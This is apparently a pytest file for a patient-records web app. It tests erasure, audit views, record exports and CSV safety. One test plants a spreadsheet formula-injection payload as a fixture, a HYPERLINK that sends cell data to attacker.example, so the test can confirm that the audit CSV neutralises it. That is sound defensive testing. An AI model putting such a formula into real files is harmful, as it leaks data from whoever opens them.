"""Patient rights and the audit views: erasure, who looked, the admin's audit page."""

import os

import cv2
import numpy as np
from sqlalchemy import func, select

from retrain.extensions import db
from retrain.models import AuditEvent, User

from ..conftest import csrf_from, login, post_form


def _upload_photo(app, patient_email):
    """A consenting patient uploads one photo through the real page."""
    client = app.test_client()
    login(client, patient_email)
    post_form(client, "/snapshots/consent", {"agree": "y"})
    ok, jpeg = cv2.imencode(".jpg", np.full((480, 640, 3), 128, np.uint8))
    page = client.get("/snapshots/capture").get_data(as_text=True)
    response = client.post(
        "/snapshots/upload",
        data={
            "csrf_token": csrf_from(page),
            "expression": "rest",
            "mirrored": "false",
            "image": (__import__("io").BytesIO(jpeg.tobytes()), "rest.jpg"),
        },
        headers={"Accept": "application/json"},
    )
    assert response.status_code in (200, 201), response.get_data(as_text=True)[:300]


def _rows_mentioning(patient_id):
    """Every row in every table (but the audit trail) that refers to the patient."""
    found = {}
    for table in db.metadata.sorted_tables:
        if table.name == AuditEvent.__tablename__:
            continue
        keys = ["id"] if table.name in ("users", "patients") else ["patient_id", "user_id"]
        for column in (c for c in keys if c in table.c):
            count = db.session.scalar(
                select(func.count()).select_from(table).where(table.c[column] == patient_id)
            )
            if count:
                found[f"{table.name}.{column}"] = count
    return found


def test_erasure_removes_rows_files_and_sessions_but_keeps_the_audit(
    app, as_user, client, factories
):
    therapist = factories.make_user("therapist")
    patient_id = factories.make_patient(care_team=[therapist], email="erase.me@example.org").id
    _upload_photo(app, "erase.me@example.org")
    photos = os.path.join(app.instance_path, "snapshots")
    assert os.listdir(photos)
    patient_browser = app.test_client()
    login(patient_browser, "erase.me@example.org")
    assert _rows_mentioning(patient_id)

    as_user("admin")
    refused = post_form(
        client, f"/admin/accounts/{patient_id}/erase", {"confirm_email": "someone.else@example.org"}
    )
    assert b"exactly" in refused.data and db.session.get(User, patient_id) is not None

    response = post_form(
        client, f"/admin/accounts/{patient_id}/erase", {"confirm_email": "Erase.Me@example.org"}
    )
    assert response.status_code == 302
    assert _rows_mentioning(patient_id) == {}
    assert os.listdir(photos) == []
    assert patient_browser.get("/today").status_code == 302  # the session ended with it
    erased = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "erase_patient"))
    assert erased.patient_id == patient_id
    from retrain.infrastructure import audit_chain

    audit_chain.seal()
    assert audit_chain.verify().intact


def test_staff_cannot_be_erased_from_the_patient_page(client, as_user, factories):
    as_user("admin")
    therapist = factories.make_user("therapist")
    assert client.get(f"/admin/accounts/{therapist.id}/erase").status_code == 404


def test_patient_sees_who_looked_at_their_record(app, client, factories):
    therapist = factories.make_user("therapist", name="Tess Example")
    patient = factories.make_patient(care_team=[therapist], email="p@example.org")
    staff_browser = app.test_client()
    login(staff_browser, therapist.email)
    assert staff_browser.get(f"/patients/{patient.id}").status_code == 200
    assert staff_browser.get(f"/patients/{patient.id}").status_code == 200

    login(client, "p@example.org")
    page = client.get("/my-data").get_data(as_text=True)
    assert "Tess Example" in page and "physical therapist" in page
    assert 'looked at your record</td><td data-label="Why">Your care</td>' in page
    assert '<td data-label="Times" class="num">2</td>' in page  # two page views, one line


def test_admin_audit_page_filters_and_csv(client, as_user, factories):
    therapist = factories.make_user("therapist")
    patient = factories.make_patient(care_team=[therapist])
    other = factories.make_patient()
    staff = client.application.test_client()
    login(staff, therapist.email)
    staff.get(f"/patients/{patient.id}")
    staff.get(f"/patients/{other.id}")  # refused: not on the care team

    as_user("admin")
    page = client.get(f"/admin/audit?patient_id={other.id}&outcome=refused")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert f'{other.name} <span class="muted">record no. {other.id}</span>' in html
    assert f'{therapist.name} <span class="muted">therapist #{therapist.id}' in html
    assert "therapist.patient" in html and "refused: not allowed" in html
    assert f"record no. {patient.id}<" not in html

    csv = client.get(f"/admin/audit.csv?patient_id={patient.id}")
    assert csv.status_code == 200 and csv.mimetype == "text/csv"
    lines = csv.get_data(as_text=True).strip().splitlines()
    assert lines[0].startswith("id,at,actor_id,actor_name,actor_role,action,patient_record_no")
    assert len(lines) == 2
    assert f",{therapist.name},therapist,view,{patient.id},{patient.name}," in lines[1]
    total = db.session.scalar(select(func.count(AuditEvent.id)))
    assert total >= 5


def test_a_bad_audit_filter_lists_nothing_and_says_what_to_correct(client, as_user):
    as_user("admin")
    client.get("/admin/")  # some events to not show
    bad = client.get("/admin/audit?patient_id=abc&start=2026-03-02&end=2026-03-01")
    html = bad.get_data(as_text=True)
    assert bad.status_code == 422 and "Please correct the filter above to see events." in html
    assert "Give an account number in digits, e.g. 12." in html
    assert "The end is before the start." in html and 'class="mono where"' not in html
    # The CSV is not every event either: back to the page, which says why.
    csv = client.get("/admin/audit.csv?patient_id=abc")
    assert csv.status_code == 302 and "/admin/audit?patient_id=abc" in csv.headers["Location"]
    page = client.get(csv.headers["Location"]).get_data(as_text=True)
    assert "No CSV was made: please correct the filter first." in page
    unknown = client.get("/admin/audit?action=<b>nothing</b>")
    html = unknown.get_data(as_text=True)
    assert unknown.status_code == 200 and "No events match." in html and "<b>" not in html


def test_whole_record_zip_has_json_csv_and_photos(app, client, factories):
    import io
    import json
    import zipfile

    therapist = factories.make_user("therapist")
    patient = factories.make_patient(care_team=[therapist], email="zip@example.org")
    _upload_photo(app, "zip@example.org")
    for who in ("zip@example.org", therapist.email):
        browser = app.test_client()
        login(browser, who)
        response = browser.get(f"/patients/{patient.id}/export.zip")
        assert response.status_code == 200 and response.mimetype == "application/zip"
        assert response.headers["Cache-Control"] == "no-store"
        archive = zipfile.ZipFile(io.BytesIO(response.data))
        names = archive.namelist()
        assert {"README.txt", "record.fhir.json", "record.csv"} <= set(names)
        photos = [n for n in names if n.startswith("photos/")]
        assert len(photos) == 1 and archive.read(photos[0])[:2] == b"\xff\xd8"
        bundle = json.loads(archive.read("record.fhir.json"))
        assert bundle["resourceType"] == "Bundle"
    exported = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "export", AuditEvent.patient_id == patient.id)
    ).all()
    assert len(exported) == 2


def test_zip_of_another_patient_is_404(app, client, factories):
    factories.make_user("therapist", email="t@example.org")
    other = factories.make_patient()
    login(client, "t@example.org")
    assert client.get(f"/patients/{other.id}/export.zip").status_code == 404


def _erase(client, patient):
    response = post_form(
        client, f"/admin/accounts/{patient.id}/erase", {"confirm_email": patient.user.email}
    )
    assert response.status_code == 302


def test_an_erased_patients_id_is_never_given_again(app, client, factories):
    """Issue 12 finding 2: after the newest patient is erased, the next patient gets a
    new id, and sees no one in "who looked at your record"."""
    admin = factories.make_user("admin")
    therapist = factories.make_user("therapist", name="Tess Example")
    erased = factories.make_patient(care_team=[therapist], email="gone@example.org")
    staff_browser = app.test_client()
    login(staff_browser, therapist.email)
    assert staff_browser.get(f"/patients/{erased.id}").status_code == 200
    erased_id = erased.id

    login(client, admin.email)
    _erase(client, erased)
    newcomer = factories.make_patient(care_team=[therapist], email="new@example.org")
    assert newcomer.id != erased_id and newcomer.id > erased_id

    newcomer_browser = app.test_client()
    login(newcomer_browser, "new@example.org")
    page = newcomer_browser.get("/my-data").get_data(as_text=True)
    assert "No one from your care team has opened your record yet." in page
    assert "Tess Example" not in page


def test_who_looked_counts_only_what_happened_after_the_account_was_made(app, client, factories):
    """The second guard: events about the same id from before this account was made (an
    id given again before ids were made never to repeat) are someone else's."""
    from retrain.models.base import utcnow

    therapist = factories.make_user("therapist", name="Tess Example")
    patient = factories.make_patient(care_team=[therapist], email="p@example.org")
    staff_browser = app.test_client()
    login(staff_browser, therapist.email)
    assert staff_browser.get(f"/patients/{patient.id}").status_code == 200
    login(client, "p@example.org")
    assert "Tess Example" in client.get("/my-data").get_data(as_text=True)

    # As if this account had been made after that visit, for an id given again.
    patient.user.created_at = utcnow()
    db.session.commit()
    page = client.get("/my-data").get_data(as_text=True)
    assert "Tess Example" not in page
    assert "No one from your care team has opened your record yet." in page


def test_no_formula_can_start_anywhere_in_the_admins_audit_csv(client, as_user):
    """Issue 12 finding 3: the audit CSV goes through the same guard as every export."""
    from retrain.infrastructure import audit
    from tests.spreadsheets import formula_cells, formula_starts

    audit.record("view", target='x;=HYPERLINK("http://attacker.example/?x="&A1,"open")')
    audit.record("view", target="x\n@SUM(1+1)")
    db.session.commit()
    as_user("admin")
    text = client.get("/admin/audit.csv").get_data(as_text=True)
    assert "HYPERLINK" in text and "SUM" in text
    assert formula_starts(text) == [] and formula_cells(text) == []
